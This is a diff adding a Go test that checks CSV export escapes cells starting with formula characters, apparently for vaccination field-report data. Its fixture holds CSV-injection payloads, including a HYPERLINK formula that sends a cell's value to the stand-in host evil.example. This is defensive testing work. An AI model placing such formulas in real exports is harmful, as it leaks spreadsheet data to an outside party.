@@ -218,3 +218,22 @@ func TestSeed_RefusedFlagsWriteNothing(t *testing.T) {
 		t.Fatalf("a good seed after the refused ones: %v\n%s", err, stderr)
 	}
 }
+
+// TestResult_CSVCellsAreNotFormulas: place, site and vaccine names come
+// from field reports; written to CSV, none may start a formula.
+func TestResult_CSVCellsAreNotFormulas(t *testing.T) {
+	r := result{header: []string{"STATE", "DISTRICT", "SITE", "VACCINE", "DOSES"},
+		rows: [][]string{{"+Maharashtra", "=1+2", "@SUM(1+1)", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "-1"}}}
+	var b bytes.Buffer
+	if err := r.write(&b, formatCSV); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%v %q", err, rows)
+	}
+	want := []string{"'+Maharashtra", "'=1+2", "'@SUM(1+1)", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "-1"}
+	if !slices.Equal(rows[1], want) {
+		t.Errorf("row %q, want %q", rows[1], want)
+	}
+}
